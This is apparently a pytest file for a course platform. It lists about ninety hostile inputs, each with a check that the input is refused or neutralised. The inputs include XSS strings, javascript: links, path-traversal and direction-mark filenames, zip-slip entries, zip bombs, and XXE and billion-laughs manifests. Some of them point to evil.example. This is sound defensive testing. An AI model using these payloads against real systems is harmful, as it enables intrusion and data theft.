"""Attacks by what people upload and write in courses, one row each: every one is refused or becomes harmless.

A row says in a sentence what is tried; beside it stands the part that stops it and what it is fed. `test_articles`,
`files/test_names` and `test_packages_*` try more of each kind in detail.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask

from tests.courses import hostile as h
from tests.courses.package_files import manifest, some_package
from tests.files.sending import some_pdf, some_video
from trainingapp.courses.media import ROLES
from trainingapp.courses.packages import violations as v
from trainingapp.courses.packages.manifests import read_manifest
from trainingapp.courses.packages.serving import add_runtime
from trainingapp.files.purposes import find_purpose
from trainingapp.files.serving import INLINE
from trainingapp.files.sniffing import family_of, media_type_of
from trainingapp.files.violations import Executable, WithMacros

TABLE: list[tuple[str, h.Try]] = [
    ("a script in an article is text", h.article("<script>alert(1)</script>")),
    ("a handler on a picture in an article is text", h.article("<img src=x onerror=alert(1)>")),
    ("a javascript: link leads nowhere", h.article("[x](javascript:alert(1))")),
    (
        "a javascript: link in capitals and with a tab leads nowhere",
        h.article("[x](JaVa&Tab;ScRiPt:alert(1))"),
    ),
    (
        "a javascript: link behind entities leads nowhere",
        h.article("[x](&#x6A;avascript:alert(1))"),
    ),
    ("a data: link leads nowhere", h.article("[x](data:text/html;base64,PHNjcmlwdD4=)")),
    ("a vbscript: link leads nowhere", h.article("[x](vbscript:msgbox(1))")),
    ("a file: link leads nowhere", h.article("<file:///etc/passwd>")),
    ("a foreign picture is not fetched", h.article("![x](https://evil.example/track.gif)")),
    ("a picture of the lesson that is none is not fetched", h.article("![x](../../../secret)")),
    ("an SVG in an article is text", h.article("<svg/onload=alert(1)>")),
    (
        "a form in an article is text",
        h.article("<form action=//evil.example><input name=password>"),
    ),
    (
        "a link's title cannot open an attribute",
        h.article('[x](https://a.example "a\\" onclick=alert(1)")'),
    ),
    (
        "an address cannot open an attribute",
        h.article('[x](https://a.example/"onmouseover=alert(1)//)'),
    ),
    ("a reference definition smuggles no scheme", h.article("[x]\n\n[x]: javascript:alert(1)")),
    ("UTF-7 is text like any other", h.article("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")),
    ("a null byte does not end the check", h.article("<scr\0ipt>alert(1)</scr\0ipt>")),
    ("a file's name climbs no folders", h.name("../../../etc/passwd", "..")),
    ("a file's name climbs no Windows folders", h.name("..\\..\\windows\\win.ini", "..")),
    (
        "a file's name begins no header line",
        h.name("a\r\nSet-Cookie: x=1\r\n\r\n<script>.pdf", "<", ":"),
    ),
    ("a file's name ends no header field", h.name('a"; filename="b.exe', '"b')),
    ("a file's name is read from left to right", h.name("成绩\u202efdp.exe.pdf", "\u202e")),
    (
        "a file's name hides nothing in zero width",
        h.name("a\u200b\u2066\u2069b.pdf", "\u200b", "\u2066"),
    ),
    ("a null byte does not cut a file's name", h.name("a.pdf\0.exe", "\0")),
    ("a name of a program is refused", h.program("成绩单.pdf.exe")),
    ("a name of a program behind a null byte is refused", h.program("photo.jpg\0.bat")),
    ("a name of a program behind a direction mark is refused", h.program("photo\u202egpj.scr")),
    ("script in subtitles is words", h.subtitles("<script>alert(1)</script>接案", "script")),
    ("a handler in subtitles is gone", h.subtitles("<b onclick=alert(1)>接案</b>", "onclick")),
    ("a class in subtitles is gone", h.subtitles("<c.red::cue>接案</c>", "::cue")),
    (
        "a style block in subtitles is gone",
        h.subtitles("甲\n\nSTYLE\n::cue { background: url(//evil.example) }", "url("),
    ),
    ("a picture as a video is refused", h.upload("course-video", h.SPRITE, "示范.mp4")),
    ("a page as a video is refused", h.upload("course-video", h.PAGE, "示范.mp4")),
    ("a program as a video is refused", h.upload("course-video", h.EXE, "示范.mp4", Executable)),
    ("an SVG as a still picture is refused", h.upload("course-poster", h.SPRITE, "封面.png")),
    ("a page as a picture is refused", h.upload("course-picture", h.PAGE, "图.png")),
    ("a PDF as a picture is refused", h.upload("course-picture", some_pdf(), "图.png")),
    (
        "a picture of a billion pixels is not drawn",
        h.picture(h.png(40_000, 40_000), "too_many_pixels"),
    ),
    (
        "a picture that says more than it holds is not drawn",
        h.picture(h.png(4_000, 4_000), "broken"),
    ),
    ("a page that begins as a picture is not drawn", h.picture(h.PNG_PAGE, "broken")),
    ("a film as slides is refused", h.upload("course-slides", some_video(), "讲义.pdf")),
    ("a page as subtitles is refused", h.upload("course-subtitles", h.PAGE, "字幕.vtt")),
    (
        "comments that could end anywhere keep nobody waiting",
        h.at_once(lambda: family_of(b"<!---->" * 25)),
    ),
    (
        "a document with macros is refused",
        h.upload("course-download", h.MACROS, "讲义.docx", WithMacros),
    ),
    (
        "a Java program as a package is refused",
        h.upload("course-package", h.JAVA, "课件.zip", Executable),
    ),
    (
        "a program as a package is refused",
        h.upload("course-package", h.EXE, "课件.zip", Executable),
    ),
    ("a PDF as a package is refused", h.upload("course-package", some_pdf(), "课件.zip")),
    (
        "a path out of the package is refused",
        h.package(some_package(**{"../evil.html": "x"}), v.UnsafeName),
    ),
    (
        "a path out of the package, deeper, is refused",
        h.package(some_package(**{"a/../../evil.html": "x"}), v.UnsafeName),
    ),
    (
        "an absolute path is refused",
        h.package(some_package(**{"/etc/cron.d/x": "x"}), v.UnsafeName),
    ),
    ("a drive letter is refused", h.package(some_package(**{"C:evil.html": "x"}), v.UnsafeName)),
    (
        "backslashes as folders are refused",
        h.package(h.renamed(b"..\\..\\evil.html"), v.UnsafeName),
    ),
    (
        "an empty step in a path is refused",
        h.package(some_package(**{"a//b.html": "x"}), v.UnsafeName),
    ),
    ("a null byte in a path is refused", h.package(h.renamed(b"a.html\0.exe"), v.UnsafeName)),
    (
        "a direction mark in a path is refused",
        h.package(some_package(**{"a\u202elmth.js": "x"}), v.UnsafeName),
    ),
    (
        "a line end in a path is refused",
        h.package(some_package(**{"a\r\nb: c": "x"}), v.UnsafeName),
    ),
    ("an endless name is refused", h.package(some_package(**{"x" * 2_000: "x"}), v.UnsafeName)),
    (
        "endless folders are refused",
        h.package(some_package(**{"a/" * 100 + "b": "x"}), v.UnsafeName),
    ),
    (
        "two names in other capitals are refused",
        h.package(some_package(**{"INDEX.html": "x"}), v.NamesCollide),
    ),
    (
        "a second manifest in other capitals is refused",
        h.package(some_package(**{"IMSMANIFEST.XML": "x"}), v.NamesCollide),
    ),
    ("a symbolic link is refused", h.package(h.mode(0o120777), v.SpecialEntry)),
    ("a device is refused", h.package(h.mode(0o060666), v.SpecialEntry)),
    ("a named pipe is refused", h.package(h.mode(0o010666), v.SpecialEntry)),
    ("an encrypted entry is refused", h.package(h.flagged(0x1), v.EncryptedEntry)),
    ("a strongly encrypted entry is refused", h.package(h.flagged(0x41), v.EncryptedEntry)),
    ("an odd compression is refused", h.package(h.flagged(0, 14), v.OddCompression)),
    ("a crowd of empty files is refused", h.package(h.crowd, v.TooManyEntries)),
    (
        "a crowd of empty files behind a second end is refused",
        h.package(lambda: h.crowd(is_hidden=True), v.TooManyEntries),
    ),
    (
        "a crowd of empty files is no package when it arrives",
        h.upload("course-package", h.crowd(is_hidden=True), "课件.zip"),
    ),
    ("a zip bomb is refused", h.package(h.bomb, v.ZipBomb)),
    ("an entry that goes on beyond its size is refused", h.package(h.lying, v.DamagedEntry)),
    (
        "an archive within nothing is refused",
        h.package(b"PK\x05\x06" + b"\0" * 18, v.ManifestMissing),
    ),
    ("a cut archive is refused", h.package(some_package()[:-30], v.NoArchive)),
    (
        "an external entity is refused",
        h.package(h.with_manifest(manifest(extra=h.XXE)), v.ManifestWithEntities),
    ),
    (
        "a billion laughs are refused",
        h.package(h.with_manifest(manifest(extra=h.LAUGHS + "]>")), v.ManifestWithEntities),
    ),
    (
        "an external document type is refused",
        h.package(
            h.with_manifest(manifest(extra='<!DOCTYPE m SYSTEM "http://evil.example/m.dtd">')),
            v.ManifestWithEntities,
        ),
    ),
    (
        "entities behind UTF-16 are refused",
        h.package(
            h.with_manifest(manifest(extra=h.XXE).replace("UTF-8", "UTF-16").encode("utf-16")),
            v.ManifestWithEntities,
        ),
    ),
    (
        "entities behind UTF-7 are refused",
        h.package(
            h.with_manifest(
                manifest(extra=h.XXE).replace("UTF-8", "UTF-7").replace("<!", "+ADwAIQ-")
            ),
            v.ManifestUnreadable,
        ),
    ),
    ("an included file is not included", h.titled(h.INCLUDED, "接案")),
    (
        "a manifest of a thousand namespaces is read once",
        h.at_once(lambda: read_manifest(h.NAMESPACES.encode())),
    ),
    (
        "a first page elsewhere is refused",
        h.package(
            h.with_manifest(manifest(units=[("a", "b", "https://evil.example/")])), v.FileElsewhere
        ),
    ),
    (
        "a first page of script is refused",
        h.package(
            h.with_manifest(manifest(units=[("a", "b", "javascript:alert(1)")])), v.FileElsewhere
        ),
    ),
    (
        "a first page above is refused",
        h.package(h.with_manifest(manifest(units=[("a", "b", "..%2f..%2fhome")])), v.FileElsewhere),
    ),
    (
        "a first page that is not there is refused",
        h.package(h.with_manifest(manifest(units=[("a", "b", "nowhere.html")])), v.FileMissing),
    ),
    (
        "a page of nothing but beginnings is sent at once",
        h.at_once(lambda: add_runtime(b"<head " * 8_000, "token")),
    ),
    (
        "a page of nothing but comments is sent at once",
        h.at_once(lambda: add_runtime(b"<!--" * 10_000, "token")),
    ),
    ("a program in a package is left out", h.sent_as("setup.exe", h.EXE)),
    ("a program as a picture in a package is left out", h.sent_as("photo.png", h.EXE)),
    ("a page as a picture in a package is only downloaded", h.sent_as("photo.png", h.PAGE)),
    (
        "a picture that is a page too is only downloaded as script",
        h.sent_as("photo.js", h.PNG_PAGE),
    ),
    ("a page of an application in a package is left out", h.sent_as("page.hta", h.PAGE)),
    ("a file of no known kind in a package is only downloaded", h.sent_as("page.htmlx", h.PAGE)),
    ("Flash in a package is only downloaded", h.sent_as("film.swf", b"CWS\x09")),
]


@pytest.mark.parametrize(("sentence", "attack"), TABLE, ids=[sentence for sentence, _ in TABLE])
def test_an_attack_is_refused_or_neutralised(
    sentence: str, attack: Callable[..., None], tmp_path: Path
) -> None:
    assert sentence
    arguments = (tmp_path,) if attack.__code__.co_argcount else ()
    attack(*arguments)


def test_the_table_is_long_and_says_nothing_twice() -> None:
    assert len({sentence for sentence, _attack in TABLE}) == len(TABLE) >= 60


def test_no_type_that_runs_is_ever_shown_from_our_own_origin(app: Flask) -> None:
    assert not INLINE & {"text/html", "image/svg+xml", "text/javascript", "application/xml"}
    purposes = [find_purpose(role.purpose) for roles in ROLES.values() for role in roles]
    for purpose in purposes:
        assert purpose is not None
        assert not purpose.media_types & {"text/html", "image/svg+xml", "text/javascript"}


def test_macros_and_java_are_known_for_what_they_are(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(h.MACROS)
    with pytest.raises(WithMacros):
        media_type_of(path, "讲义.docx")
    path.write_bytes(h.JAVA)
    with pytest.raises(Executable):
        media_type_of(path, "课件.zip")
